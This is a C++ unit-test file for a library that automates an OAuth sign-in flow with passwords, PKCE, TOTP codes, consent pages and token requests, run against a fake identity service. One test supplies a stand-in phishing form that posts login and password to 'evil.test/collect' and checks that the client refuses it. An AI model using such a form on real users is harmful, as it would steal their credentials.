#include "client/api/sign_in.h"

#include "mockgraph/base/totp.h"
#include "tests/support/fake_service.h"

#include <gmock/gmock.h>

namespace client::api {
namespace {

using mockgraph::Pairs;
using mockgraph::Status;
using std::chrono::seconds;
using testing::ElementsAre;

constexpr std::string_view kSignIn =
    R"(<form action="/organizations/login" method="post"><input type="hidden" name="flow" value="f1">
<input name="login" value=""><input type="password" name="passwd"><button>Sign in</button></form>)";
constexpr std::string_view kCode =
    R"(<form action="/organizations/otc" method="post"><input type="hidden" name="flow" value="f1">
<input name="otc"><button>Verify</button></form>)";
constexpr std::string_view kRegister =
    R"(<code id="totp-secret">JBSWY3DPEHPK3PXP</code><form action="/organizations/proofup" method="post">
<input type="hidden" name="flow" value="f1"><input name="otc"></form>)";
constexpr std::string_view kVendor =
    R"(<form action="/organizations/external" method="post"><input type="hidden" name="flow" value="f1">
<button type="submit">Approve</button></form>)";
constexpr std::string_view kConsent =
    R"(<form action="/organizations/consent" method="post"><input type="hidden" name="flow" value="f1">
<input type="checkbox" name="for_organization" value="true">
<button name="decision" value="accept">A</button><button name="decision" value="decline">D</button></form>)";

class SignIn : public testing::Test {
 protected:
  void redirect_with_code() { service_.redirect("http://localhost/?code=c0de&state={state}"); }
  void give_tokens(std::string_view claims) {
    service_.answer(200, R"({"access_token":")" + tests::token_with(claims) +
                             R"(","refresh_token":"rt","id_token":"it"})");
  }
  mockgraph::Result<SignedIn> run(const KeepSecret& keep = {}) {
    auto connection = service_.connect();
    return sign_in(connection, {"ada@contoso.test", "pass word", secret_},
                   {"app", "s1 offline_access"}, keep);
  }
  Pairs sent(std::size_t index) const { return Pairs{service_.asked.at(index).body}; }

  tests::FakeService service_;
  std::string secret_;
};

TEST_F(SignIn, ProvesTheCodeByPkce) {
  service_.page(std::string{kSignIn}, "session=s1; path=/; HttpOnly");
  redirect_with_code();
  give_tokens(R"({"amr":["pwd","mfa"]})");
  const auto signed_in = run();
  ASSERT_TRUE(signed_in.ok()) << signed_in.error().message;
  EXPECT_TRUE(signed_in->tokens.has_mfa());
  EXPECT_EQ(signed_in->tokens.refresh, "rt");
  EXPECT_THAT(signed_in->pages, ElementsAre(SignInPage::kSignIn));

  const Pairs form = sent(1);
  EXPECT_EQ(service_.asked[1].target, "/organizations/login");
  EXPECT_EQ(service_.asked[1].cookie, "session=s1");
  EXPECT_EQ(form.get("flow"), "f1");
  EXPECT_EQ(form.get("login"), "ada@contoso.test");
  EXPECT_EQ(form.get("passwd"), "pass word");

  const Pairs redemption = sent(2);
  EXPECT_EQ(service_.asked[2].target, "/organizations/oauth2/v2.0/token");
  EXPECT_EQ(redemption.get("code"), "c0de");
  EXPECT_EQ(redemption.get("redirect_uri"), "http://localhost");
  const std::string verifier{redemption.get("code_verifier")};
  EXPECT_EQ(mockgraph::base64url(mockgraph::bytes_of(mockgraph::sha256(verifier))),
            service_.challenge);
}

TEST_F(SignIn, EntersTheCodeOfTheAuthenticator) {
  secret_ = "JBSWY3DPEHPK3PXP";
  service_.page(std::string{kSignIn});
  service_.page(std::string{kCode});
  redirect_with_code();
  give_tokens("{}");
  ASSERT_TRUE(run().ok());
  const auto bytes = mockgraph::base32_decoded(secret_);
  EXPECT_EQ(sent(2).get("otc"), mockgraph::totp_code(*bytes, service_.now));
}

TEST_F(SignIn, WaitsForTheNextCodeWhenOneIsRefused) {
  secret_ = "JBSWY3DPEHPK3PXP";
  const auto before = service_.now;
  service_.page(std::string{kSignIn});
  service_.page(std::string{kCode});
  service_.page("<p role=\"alert\">AADSTS500121: Used before.</p>" + std::string{kCode});
  redirect_with_code();
  give_tokens("{}");
  ASSERT_TRUE(run().ok());
  EXPECT_GT(service_.now, before);
  EXPECT_LE(service_.now - before, seconds{30});
  EXPECT_NE(sent(2).get("otc"), sent(3).get("otc"));
}

TEST_F(SignIn, GivesUpAfterTheSecondCode) {
  secret_ = "JBSWY3DPEHPK3PXP";
  service_.page(std::string{kSignIn});
  for (int i = 0; i < 3; ++i)
    service_.page("<p role=\"alert\">AADSTS500121: Wrong.</p>" + std::string{kCode});
  const auto signed_in = run();
  ASSERT_FALSE(signed_in.ok());
  EXPECT_EQ(signed_in.error().code, "AADSTS500121");
  EXPECT_EQ(signed_in.error().message, "AADSTS500121: Wrong.");
}

TEST_F(SignIn, KeepsTheSecretBeforeItConfirmsIt) {
  service_.page(std::string{kSignIn});
  service_.page(std::string{kRegister});
  redirect_with_code();
  give_tokens("{}");
  std::string kept;
  std::size_t asked_then = 0;
  const auto signed_in = run([&](const std::string& base32) -> Status {
    kept = base32;
    asked_then = service_.asked.size();
    return mockgraph::ok();
  });
  ASSERT_TRUE(signed_in.ok());
  EXPECT_TRUE(signed_in->saw(SignInPage::kRegister));
  EXPECT_EQ(kept, "JBSWY3DPEHPK3PXP");
  EXPECT_EQ(asked_then, 2U);  // the form with the code had not left yet
}

TEST_F(SignIn, RegistersNothingWhenTheSecretCannotBeKept) {
  service_.page(std::string{kSignIn});
  service_.page(std::string{kRegister});
  const auto signed_in = run([](const std::string&) -> Status {
    return mockgraph::Error{mockgraph::ErrorKind::kUnavailable, "disk-full", "no room", "", {}};
  });
  ASSERT_FALSE(signed_in.ok());
  EXPECT_EQ(signed_in.error().code, "disk-full");
  EXPECT_EQ(service_.asked.size(), 2U);
}

TEST_F(SignIn, EndsAtARegistrationThatNobodyAskedFor) {
  service_.page(std::string{kSignIn});
  service_.page(std::string{kRegister});
  const auto signed_in = run();
  ASSERT_FALSE(signed_in.ok());
  EXPECT_EQ(signed_in.error().code, "registration-required");
  EXPECT_EQ(signed_in.error().about("request-id"), "id-2");
}

TEST_F(SignIn, SaysThatItLacksTheAuthenticator) {
  service_.page(std::string{kSignIn});
  service_.page(std::string{kCode});
  const auto signed_in = run();
  ASSERT_FALSE(signed_in.ok());
  EXPECT_EQ(signed_in.error().code, "otc-required");
}

TEST_F(SignIn, PassesAVendorsPageAndAcceptsAConsent) {
  service_.page(std::string{kSignIn});
  service_.page(std::string{kVendor});
  service_.page(std::string{kConsent});
  redirect_with_code();
  give_tokens(R"({"amr":["pwd"]})");
  const auto signed_in = run();
  ASSERT_TRUE(signed_in.ok()) << signed_in.error().message;
  EXPECT_FALSE(signed_in->tokens.has_mfa());
  EXPECT_THAT(signed_in->pages,
              ElementsAre(SignInPage::kSignIn, SignInPage::kVendor, SignInPage::kConsent));
  EXPECT_EQ(service_.asked[2].body, "flow=f1");
  EXPECT_EQ(service_.asked[3].body, "flow=f1&decision=accept");
}

TEST_F(SignIn, SaysWhatThePageSaysAboutAWrongPassword) {
  service_.page(std::string{kSignIn});
  service_.page("<p role=\"alert\">AADSTS50126: Invalid username or password. Trace ID: x</p>" +
                std::string{kSignIn});
  const auto signed_in = run();
  ASSERT_FALSE(signed_in.ok());
  EXPECT_EQ(signed_in.error().code, "AADSTS50126");
  EXPECT_EQ(signed_in.error().message, "AADSTS50126: Invalid username or password.");
  EXPECT_EQ(service_.asked.size(), 2U);
}

TEST_F(SignIn, DoesNotEnterTheSamePasswordForEver) {
  for (int i = 0; i < 3; ++i) service_.page(std::string{kSignIn});
  const auto signed_in = run();
  ASSERT_FALSE(signed_in.ok());
  EXPECT_EQ(signed_in.error().code, "sign-in-refused");
  EXPECT_EQ(service_.asked.size(), 2U);
}

TEST_F(SignIn, HandsOnTheErrorOfTheRedirect) {
  service_.redirect(
      "http://"
      "localhost?error=access_denied&error_description=AADSTS65004%3A+Declined.&state={state}");
  const auto signed_in = run();
  ASSERT_FALSE(signed_in.ok());
  EXPECT_EQ(signed_in.error().code, "AADSTS65004");
}

TEST_F(SignIn, RefusesACodeOfAnotherSignIn) {
  service_.redirect("http://localhost/?code=c0de&state=someone-elses");
  const auto signed_in = run();
  ASSERT_FALSE(signed_in.ok());
  EXPECT_EQ(signed_in.error().code, "state-mismatch");
}

TEST_F(SignIn, FollowsNoRedirectToAnotherHost) {
  service_.redirect("https://login.microsoftonline.com/common/login");
  const auto signed_in = run();
  ASSERT_FALSE(signed_in.ok());
  EXPECT_EQ(signed_in.error().code, "guard");
  EXPECT_EQ(service_.asked.size(), 1U);
}

TEST_F(SignIn, SubmitsNoFormToAnotherHost) {
  service_.page(
      R"(<form action="https://evil.test/collect" method="post"><input name="login"><input name="passwd"></form>)");
  const auto signed_in = run();
  ASSERT_FALSE(signed_in.ok());
  EXPECT_EQ(signed_in.error().code, "guard");
  EXPECT_EQ(service_.asked.size(), 1U);
}

TEST_F(SignIn, DoesNotGoRoundInCircles) {
  for (int i = 0; i < 20; ++i) service_.redirect("/organizations/oauth2/v2.0/authorize");
  const auto signed_in = run();
  ASSERT_FALSE(signed_in.ok());
  EXPECT_EQ(signed_in.error().code, "unreadable-page");
}

TEST(Login, ReadsTheRefusalOfTheTokenEndpoint) {
  tests::FakeService service;
  service.answer(
      400,
      R"({"error":"invalid_grant","error_description":"AADSTS50076: Use MFA. Trace ID: 1","suberror":"basic_action"})");
  auto connection = service.connect();
  const auto tokens = LoginClient{connection}.refresh({"app", "scope"}, "rt");
  ASSERT_FALSE(tokens.ok());
  EXPECT_EQ(tokens.error().code, "AADSTS50076");
  EXPECT_EQ(tokens.error().message, "AADSTS50076: Use MFA.");
  EXPECT_EQ(tokens.error().about("suberror"), "basic_action");
  EXPECT_EQ(tokens.error().about("status"), "400");
}

TEST(Login, AsksForATokenByPasswordInTheTenantOfTheName) {
  tests::FakeService service;
  service.answer(200, R"({"access_token":"x"})");
  auto connection = service.connect();
  const auto tokens = LoginClient{connection}.password({"app", "scope"}, "ada@contoso.test", "pw");
  ASSERT_TRUE(tokens.ok());
  EXPECT_EQ(service.asked[0].target, "/contoso.test/oauth2/v2.0/token");
  EXPECT_FALSE(tokens->has_mfa());
}

TEST(Login, SendsTheSecretOfAConfidentialApplication) {
  tests::FakeService service;
  service.answer(200, R"({"access_token":"x"})");
  service.answer(200, R"({"access_token":"x"})");
  auto connection = service.connect();
  LoginClient login{connection};
  const AppRequest app{
      .client_id = "app", .scope = "s", .tenant = "lab.test", .client_secret = "shh"};
  ASSERT_TRUE(login.client_credentials(app).ok());
  ASSERT_TRUE(login.redeem(app, {"the-code", ""}).ok());
  EXPECT_EQ(service.asked[0].target, "/lab.test/oauth2/v2.0/token");
  EXPECT_EQ(service.asked[0].body,
            "grant_type=client_credentials&client_id=app&scope=s&client_secret=shh");
  EXPECT_EQ(service.asked[1].body,
            "grant_type=authorization_code&client_id=app&scope=s&code=the-code&redirect_uri="
            "http%3A%2F%2Flocalhost&client_secret=shh");
}

TEST(Login, PollsForTheDeviceAsOftenAsItIsTold) {
  tests::FakeService service;
  service.answer(
      200,
      R"({"device_code":"d","user_code":"U","verification_uri":"v","expires_in":900,"interval":5})");
  service.answer(400, R"({"error":"authorization_pending"})");
  service.answer(400, R"({"error":"slow_down"})");
  service.answer(200, R"({"access_token":"x","refresh_token":"rt"})");
  auto connection = service.connect();
  LoginClient login{connection};
  const auto before = service.now;
  const auto code = login.start_device({"app", "scope"});
  ASSERT_TRUE(code.ok());
  EXPECT_EQ(code->user_code, "U");
  const auto tokens = login.await_device({"app", "scope"}, *code);
  ASSERT_TRUE(tokens.ok());
  EXPECT_EQ(tokens->refresh, "rt");
  EXPECT_EQ(service.now - before, seconds{15});
}

}  // namespace
}  // namespace client::api
